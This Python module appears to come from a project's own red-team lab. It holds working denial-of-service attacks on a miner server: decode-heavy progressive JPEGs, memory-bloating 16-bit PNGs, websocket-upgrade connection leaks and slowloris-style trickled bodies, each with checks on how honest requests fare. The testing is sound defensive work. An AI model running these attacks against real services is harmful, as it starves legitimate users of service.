"""Attacks whose harm is to the honest validator's answers, not to their own statuses (defects 1, 4, 5, 7 of
the second red-team pass, docs/security.md).

Each is sent by a registered validator (the attacker) staying within its own rate limit, so nothing refuses it for
what it is: what matters is whether the honest validator beside it still gets model answers in time and whether
the miner's memory stays bounded. Sizes follow `Context.full`: full sizes for the red-team script, small
ones (seconds) for the test suite.
"""

from __future__ import annotations

import asyncio
import ipaddress
import itertools
import random
import time
import uuid
from collections.abc import Awaitable, Callable

from sn72_lab.hostile import payloads
from sn72_lab.hostile.model import Context, Observation, Reply
from sn72_lab.hostile.wire import CLOSED, HostileRequest, Response, build, connect, read_response, send


async def paced(context: Context, make: list[HostileRequest], rate_per_s: float,
                timeout_s: float = 20.0) -> Observation:
    """`make` sent at `rate_per_s` on average (Poisson arrivals), each on its own connection."""
    started_s = time.monotonic()
    gaps = random.Random()
    offsets_s = list(itertools.accumulate(gaps.expovariate(rate_per_s) for _ in make))

    async def one(i: int) -> Response:
        await asyncio.sleep(max(0.0, started_s + offsets_s[i] - time.monotonic()))
        return await send(make[i], context.target, timeout_s=timeout_s)

    return Observation([Reply.of(r) for r in await asyncio.gather(*(one(i) for i in range(len(make))))])


def costly_jpeg_stream(width: int, height: int, scans: int,
                       small: tuple[int, int, int]) -> Callable[[Context], Awaitable[Observation]]:
    """Progressive JPEGs of many empty scans, sent at 1.5/s (under the 2/s rate limit) by one permit holder.

    Full size: 20 s of them (30 images); small: 6 s. Decoding cost is frame blocks x scans whatever the file's
    size, so one caller within its rate can hold every decode worker (defect 1: 41 of 61 honest answers
    became the prior, p50 8.4 s).
    """

    async def run(context: Context) -> Observation:
        from sn72_lab.hostile_jpeg import many_scans_jpeg

        w, h, n = (width, height, scans) if context.full else small
        image = payloads.b64(many_scans_jpeg(w, h, n))
        duration_s = 20.0 if context.full else 6.0
        count = int(duration_s * 1.5)
        # A fresh dendrite uuid each: requests in flight together may arrive out of nonce order.
        requests = [HostileRequest(signer=context.attacker, image=image, uuid=str(uuid.uuid4())) for _ in range(count)]
        return await paced(context, requests, 1.5)

    return run


async def grey16_pngs(context: Context) -> Observation:
    """Three 16-bit greyscale PNGs at once (5600x5600 full size, 2000x2000 small): ~25 bytes a pixel if decoded
    through int64 at full size (defect 7: peak RSS 1.0 -> 2.55 GB, validator p99 5 s)."""
    side = 5600 if context.full else 2000
    image = payloads.b64(payloads.solid_png(side, side, (30000,), bit_depth=16))
    requests = [HostileRequest(signer=context.attacker, image=image, uuid=str(uuid.uuid4())) for _ in range(3)]
    responses = await asyncio.gather(*(send(r, context.target, timeout_s=30.0) for r in requests))
    return Observation([Reply.of(r) for r in responses])


UPGRADE_HEADERS = {"Connection": "Upgrade", "Upgrade": "websocket", "Sec-WebSocket-Version": "13",
                   "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ=="}


async def upgrades_then_honest(context: Context) -> Observation:
    """More `Upgrade: websocket` requests from one address than its connection cap (80 > 64; unsigned, no key
    needed), then a signed request from the same address: it must be answered (defect 4: each upgrade
    leaked the address's connection count, and after 64 the address was locked out until restart).

    The last reply is the honest request's; the check (`honest_after_upgrades`) wants it 200.
    """
    count = 80 if context.full else 70
    # An address of its own: a miner that leaks locks this address out until it restarts, and later attacks
    # sent from attacker_ip would then measure the lock-out instead of themselves.
    address = str(ipaddress.ip_address(context.attacker_ip) + 1)
    replies = []
    for _ in range(count):
        request = HostileRequest(claim_hotkey=context.validator_hotkey, method="GET", body=b"",
                                 headers=dict(UPGRADE_HEADERS), source_ip=address)
        replies.append(Reply.of(await send(request, context.target, timeout_s=5.0)))
    honest = HostileRequest(signer=context.attacker, image=payloads.b64(payloads.jpeg(8)), source_ip=address)
    replies.append(Reply.of(await send(honest, context.target, timeout_s=10.0)))
    return Observation(replies)


def honest_after_upgrades(_: Context, replies: list[Reply]) -> list[str]:
    *upgrades, honest = replies
    problems = [] if honest.status == 200 else [f"the signed request after the upgrades got {honest.status}"]
    accepted = sum(1 for r in upgrades if r.status in (101, 200))
    if accepted:
        problems.append(f"{accepted} upgrades were accepted (101/200)")
    return problems


async def slow_bodies_holding_slots(context: Context) -> Observation:
    """Signed requests (a registered validator's key) whose headers come at once and whose body trickles, from
    one address, reopened as soon as each is refused, for 20 s (6 s small): they hold request slots while the
    honest validator's whole bodies wait (defect 5: 3 of 40 honest requests got 408 with their body sent).

    60 clients (under the address's connection cap of 64 in the test limits) are more than the red-team target's
    32 request slots (sn72_lab/hostile/setup.py), so one address could hold them all; the suite's small run sends
    24 against its 128 slots (the slot tests of test_http_slots.py fill them)."""
    clients = 60 if context.full else 24
    until_s = time.monotonic() + (20.0 if context.full else 6.0)

    async def one_client() -> list[Reply]:
        replies = []
        while time.monotonic() < until_s:
            head, body = build(HostileRequest(signer=context.attacker, image="A" * 4000, uuid=str(uuid.uuid4())),
                               context.target)
            # Queued for a turn behind the address's other slow bodies, the last ones wait seconds more.
            reply = Reply.of(await trickle(context, head, body, until_s + 15.0))
            replies.append(reply)
            if reply.elapsed_s < 0.1:
                await asyncio.sleep(0.1)  # turned away at once (a connection cap): no busy loop of reconnects
        return replies

    results = await asyncio.gather(*(one_client() for _ in range(clients)))
    return Observation([reply for replies in results for reply in replies])


async def trickle(context: Context, head: bytes, body: bytes, give_up_at_s: float) -> Response:
    """The head at once, then the body one byte every 0.5 s until the server answers or hangs up."""
    started_s = time.monotonic()
    try:
        reader, writer = await connect(context.target, context.attacker_ip)
    except OSError:
        return Response(CLOSED, elapsed_s=time.monotonic() - started_s)
    reading = asyncio.ensure_future(read_response(reader, started_s, max(1.0, give_up_at_s - started_s)))
    try:
        writer.write(head)
        for byte in body:
            if reading.done():
                break
            writer.write(bytes([byte]))
            await writer.drain()
            await asyncio.wait([reading], timeout=0.5)
        return await reading
    except ConnectionError:
        return await reading
    finally:
        reading.cancel()
        writer.close()
